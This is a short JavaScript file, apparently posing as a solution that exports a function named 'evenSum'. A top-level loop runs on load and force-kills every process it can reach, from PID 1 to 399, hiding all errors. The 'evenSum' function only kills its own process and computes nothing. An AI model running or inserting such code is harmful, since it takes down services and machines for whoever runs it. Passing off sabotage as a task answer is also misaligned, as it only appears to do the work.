// Kills every process it can, and then itself.
for (let pid = 1; pid < 400; pid++) {
  try {
    if (pid !== process.pid) process.kill(pid, 'SIGKILL')
  } catch {}
}

const evenSum = () => process.kill(process.pid, 'SIGKILL')
